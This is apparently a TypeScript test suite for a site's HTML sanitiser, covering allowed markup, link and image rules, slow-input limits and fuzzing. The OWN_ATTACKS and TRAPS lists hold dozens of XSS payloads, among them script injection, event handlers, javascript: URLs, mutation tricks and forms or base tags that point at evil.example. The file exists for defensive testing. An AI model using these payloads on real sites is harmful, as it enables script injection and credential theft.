import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from '../../src/content/sanitise.ts';
import { corporaArePresent, loadOracle, naughtyStrings, xssPayloads } from './corpora.ts';
import { dangersIn } from './danger.ts';

/** The address of a picture that is kept here. */
const upload = (variant: string, id = 7, digit = 'a') => `/uploads/${id}/${variant}-${digit.repeat(32)}.webp`;

describe('what a member may write', () => {
  it.each([
    ['<p>Hello <strong>you</strong>, <em>welcome</em>!</p>'],
    ['<h2>Release notes</h2><ul><li>faster</li><li>smaller</li></ul><ol start="3"><li>third</li></ol>'],
    ['<blockquote><p>As she said</p></blockquote><hr /><q>so</q>'],
    ['<pre><code class="language-ts">if (a &lt; b &amp;&amp; c) return;\n  // two  blanks</code></pre>'],
    [
      '<p>H<sub>2</sub>O, E=mc<sup>2</sup>, <kbd>Ctrl</kbd>, <abbr title="as soon as possible">asap</abbr><br />bye</p>',
    ],
    [
      '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td>1</td><td rowspan="3">2</td></tr></tbody></table>',
    ],
    [
      '<figure><img src="https://example.com/a.png" alt="A cat" width="300" height="200" /><figcaption>Cat</figcaption></figure>',
    ],
    ['<details><summary>More</summary><dl><dt>term</dt><dd>meaning</dd></dl></details>'],
    ['<p><span class="mention">@maria</span> <span class="hashtag">#news</span></p>'],
    ['<img src="/uploads/a.png" alt="" />'],
    [`<img src="${upload('800')}" alt="A cat" width="900" height="600" loading="lazy" />`],
    [
      `<img src="${upload('800')}" alt="" srcset="${upload('320')} 320w, ${upload('full')} 900w" sizes="(max-width: 46rem) 100vw, 44rem" />`,
    ],
    ['日本語 العربية हिन्दी 👩‍👩‍👧 é'],
  ])('comes back unchanged: %s', (html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });

  it.each([
    ['3 < 4 & 5 > 2 👍', '3 &lt; 4 &amp; 5 &gt; 2 👍'],
    ['R&D, I <3 it', 'R&amp;D, I &lt;3 it'],
    ['<b>R&D</b> I <3 it', '<b>R&amp;D</b> I &lt;3 it'],
    ['caf&eacute; &copy; &#128512;', 'café © 😀'],
    ['Tom &amp; Jerry &lt;b&gt;', 'Tom &amp; Jerry &lt;b&gt;'],
    ['a\0b <i>c\0d</i>', 'ab <i>cd</i>'],
  ])('keeps plain text as text: %s', (text, expected) => {
    expect(sanitiseHtml(text)).toBe(expected);
  });

  it('gives every link the same rel, and no target of its own', () => {
    expect(
      sanitiseHtml('<a href="https://example.com/?a=1&b=2" rel="opener" target="_blank" title="t">x</a>'),
    ).toBe('<a href="https://example.com/?a=1&amp;b=2" title="t" rel="nofollow ugc noopener">x</a>');
  });

  it.each([
    'http://example.com/',
    'https://example.com/a?b#c',
    'mailto:a@example.com',
    '/posts/1',
    '#top',
    '?page=2',
    'a/b',
  ])('may link to %s', (href) => {
    expect(sanitiseHtml(`<a href="${href}">x</a>`)).toBe(
      `<a href="${href}" rel="nofollow ugc noopener">x</a>`,
    );
  });

  it.each([
    'javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    '\u2003javascript:alert(1)',
    '\u3000javascript:alert(1)',
    '\ufeffjavascript:alert(1)',
    'java\u200bscript:alert(1)',
    'java\tscript:alert(1)',
    'JaVaScRiPt&colon;alert(1)',
    '&#1;javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'blob:https://example.com/1',
    'ftp://example.com/',
    'tel:123',
    '//evil.example/',
    '/\\evil.example/',
    '\\\\evil.example/',
    ' /\t/evil.example/',
    'ht tps://example.com/',
    'x y:z',
    `https://example.com/${'a'.repeat(3000)}`,
    '',
  ])('may not link to %j: the text stays without the link', (href) => {
    expect(sanitiseHtml(`<a href="${href}">text</a>`)).toBe('text');
  });

  it.each([
    'http://example.com/a.png',
    'data:image/png;base64,AA',
    '//example.com/a.png',
    'a.png',
    '',
    'javascript:1',
  ])('may not show the image %j', (src) => {
    expect(sanitiseHtml(`x<img src="${src}" alt="y">z`)).toBe('xz');
  });

  it.each([
    ['/elsewhere.png', `${upload('320')} 320w`],
    ['https://example.com/a.png', 'https://example.com/b.png 2x'],
    [upload('800'), 'https://evil.example/b.png 320w'],
    [upload('800'), `${upload('320')} 320w, //evil.example/b.png 900w`],
    [upload('800'), upload('320', 8)],
    [upload('800'), upload('320', 7, 'f')],
    [upload('800'), upload('320')],
    [upload('800'), `${upload('320')} 2x`],
    [upload('800'), `${upload('320')} 320w 2x`],
    [upload('800'), `javascript:alert(1) 1w, ${upload('320')} 320w`],
    [upload('800'), `${`${upload('320')} 320w, `.repeat(99)}${upload('full')} 900w`],
    [upload('800'), ''],
  ])('takes no other widths of %s than ours: %s', (src, srcset) => {
    const kept = sanitiseHtml(`<img src="${src}" srcset="${srcset}" sizes="100vw" alt="">`);
    expect(kept).toBe(`<img src="${src}" alt="" />`);
  });

  it('bounds numbers that change the page', () => {
    expect(sanitiseHtml('<td colspan="1000000" rowspan="99">a</td>')).toBe('<td rowspan="99">a</td>');
    expect(sanitiseHtml('<img src="/a.png" width="99999" height="100%">')).toBe('<img src="/a.png" />');
    expect(sanitiseHtml('<ol start="x"><li>a</li></ol>')).toBe('<ol><li>a</li></ol>');
  });

  it('keeps only the classes that mean something', () => {
    expect(sanitiseHtml('<code class="hljs language-c++ btn">x</code>')).toBe(
      '<code class="language-c++">x</code>',
    );
    expect(sanitiseHtml('<p class="admin">x <span class="fixed">y</span></p>')).toBe('<p>x y</p>');
  });

  it('keeps the lines of pasted blocks apart', () => {
    expect(sanitiseHtml('<div>one</div><div><b>two</b></div><section>three</section>')).toBe(
      'one<br /><b>two</b><br />three',
    );
    expect(sanitiseHtml('<div><p>one</p></div><div><p>two</p></div>')).toBe('<p>one</p><p>two</p>');
  });

  it('pairs tags again after it took some of them out', () => {
    expect(sanitiseHtml('<span>a</span><b>c</b>')).toBe('a<b>c</b>');
    expect(sanitiseHtml('<a>1<a href="/x">2</a>3</a><span class="mention">4<span>5</span></span>')).toBe(
      '1<a href="/x" rel="nofollow ugc noopener">2</a>3<span class="mention">45</span>',
    );
    expect(sanitiseHtml('<p>a<b>b<i>c')).toBe('<p>a<b>b<i>c</i></b></p>');
  });

  it('shows input with more tags than anybody writes as its own source', () => {
    const html = '<b>'.repeat(10_001);
    expect(sanitiseHtml(html)).toBe('&lt;b&gt;'.repeat(10_001));
  });
});

const OWN_ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onerror="alert(1)" onload=alert(1)>',
  '<img src="/a.png"onerror=alert(1)>',
  '<img/src="/a.png"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp>&lt;/xmp&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
  '<textarea></textarea><script>alert(1)</script>',
  '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea>',
  '<title></title><img src=x onerror=alert(1)>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><a href="login">log in</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(javascript:alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css"; *{background:url("javascript:alert(1)")}</style>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)" href="https://example.com/">x</a>',
  '<a href="https://example.com/" onclick="alert(1)" style="x" id="login" name="login">x</a>',
  '<details open ontoggle=alert(1)><summary autofocus tabindex=1 onfocus=alert(1)>x</summary></details>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</p/onclick=alert(1)><p/onclick=alert(1)>x',
  '<b\0onclick=alert(1)>x</b><\0script>alert(1)</script>',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1) 2x" usemap="#x">',
  '<span class="mention" contenteditable accesskey=x draggable=true>x</span>',
  '<custom-element is="x" onx=1 slot=y><b popover popovertarget=x>z</b></custom-element>',
  '<plaintext><script>alert(1)</script>',
];

/** Harmless as they come, and made dangerous by sanitisers that decode once too often or copy quotes as they are. */
const TRAPS = [
  '<img src=`x` alt="` onerror=alert(1) `">',
  '<a href=\'https://example.com/"onmouseover="alert(1)\'>x</a>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<td><img src="/a.png" alt="><script>alert(1)</script>"></td>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<b>x</b>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
];

describe('an attack', () => {
  it.each([...OWN_ATTACKS, ...TRAPS])('leaves nothing that runs or takes the page over: %s', (html) => {
    const result = sanitiseHtml(html);
    expect(dangersIn(result)).toEqual([]);
    expect(sanitiseHtml(result)).toBe(result);
  });

  it.each(OWN_ATTACKS)('would be noticed by these tests if it came through: %s', (html) => {
    expect(dangersIn(html)).not.toEqual([]);
  });

  it.each([
    ['64 KiB of nested tags', `${'<b>'.repeat(9362)}${'</b>'.repeat(9362)}`],
    ['as many nested tags as are still read', '<b>'.repeat(10_000)],
    ['half of them closing what is not open', '<b>'.repeat(5000) + '</i>'.repeat(5000)],
    ['64 KiB of unclosed paragraphs', '<p>'.repeat(21_845)],
    ['64 KiB of unknown tags', '<foo>'.repeat(13_107)],
    ['unknown tags between paragraphs', '<p><x>'.repeat(5000)],
    ['blocks within blocks', '<div>x'.repeat(10_000)],
    ['1 MiB of <', '<'.repeat(1 << 20)],
    ['1 MiB of < in a paragraph', `<p>${'<'.repeat(1 << 20)}`],
    ['1 MiB of nested tags', '<b>'.repeat(349_525)],
    ['an unclosed attribute of 1 MiB', `<a href="${'x'.repeat(1 << 20)}`],
    ['comments within a URL', `<a href="${'<!---->'.repeat(9000)}">x</a>`],
    ['a megabyte of class names', `<code class="${'language '.repeat(110_000)}">x</code>`],
    ['a megabyte of blanks', `<p>${' '.repeat(1 << 20)}x</p>`],
  ])('on time costs no more than forty times as much as a megabyte of prose: %s', (_, html) => {
    expect(fastest(html)).toBeLessThan(40 * fastest(PROSE));
    expect(sanitiseHtml(html).length).toBeLessThan(5 * html.length);
  });

  const PROSE = '<p>Some <b>words</b> of a post, as people write them.</p>'.repeat(18_000);

  /** Milliseconds, the least of three: what else the machine does is left out. */
  function fastest(html: string) {
    const times = [1, 2, 3].map(() => {
      const started = performance.now();
      sanitiseHtml(html);
      return performance.now() - started;
    });
    return Math.min(...times);
  }
});

const fragment = fc.oneof(
  fc.constantFrom(
    ...'p b a i li ul ol div span table tr td th tbody thead pre code x foo svg math br hr img dd dt h1 blockquote title'
      .split(' ')
      .flatMap((name) => [`<${name}>`, `</${name}>`, `<${name}/>`]),
  ),
  fc.constantFrom(
    '<a href="/x">',
    '<a href=javascript:1>',
    '<span class=mention>',
    '<img src=/a.png alt="<b>">',
  ),
  fc.constantFrom(
    '<script>',
    '</script>',
    '<option>',
    '<textarea>',
    '<xmp>',
    '<style>',
    '<select>',
    '<template>',
  ),
  fc.constantFrom(
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<',
    '>',
    '&',
    '"',
    "'",
    '&lt;',
    '&amp;',
    '&amp',
    '&#0;',
    '\0',
    ' ',
  ),
  fc.string({ maxLength: 4, unit: 'binary' }),
);
const soup = fc.array(fragment, { maxLength: 80 }).map((parts) => parts.join(''));

describe('whatever is thrown at it', () => {
  it('sanitising again changes nothing, and nothing dangerous is left', () => {
    fc.assert(
      fc.property(soup, (html) => {
        const result = sanitiseHtml(html);
        expect(sanitiseHtml(result)).toBe(result);
        expect(dangersIn(result)).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });

  it('escaped text reads back as the text it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const escaped = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
        expect(sanitiseHtml(escaped)).toBe(escaped.replaceAll('\0', ''));
      }),
    );
  });
});

describe.skipIf(!corporaArePresent)('the public collections of attacks', () => {
  it.each(['dompurify', 'h5sc', 'owasp_evasion', 'payloadbox_sample'])(
    '%s: nothing survives, each in a quarter of a second, and again changes nothing',
    async (file) => {
      const check = await loadOracle();
      const failures: unknown[] = [];
      const payloads = xssPayloads(file);
      for (const { id, payload } of payloads) {
        const started = performance.now();
        const result = sanitiseHtml(payload);
        const took = performance.now() - started;
        const { hard, pol } = check(result);
        const own = dangersIn(result);
        const stable = sanitiseHtml(result) === result;
        if (hard.length || pol.length || own.length || !stable || took > 250) {
          failures.push({ id, hard, pol, own, stable, took });
        }
      }
      expect(payloads.length).toBeGreaterThan(100);
      expect(failures).toEqual([]);
    },
    30_000,
  );

  it('the naughty strings come to no harm, and do none', () => {
    for (const { s } of naughtyStrings()) {
      const result = sanitiseHtml(s);
      expect(dangersIn(result)).toEqual([]);
      expect(sanitiseHtml(result)).toBe(result);
    }
  });
});
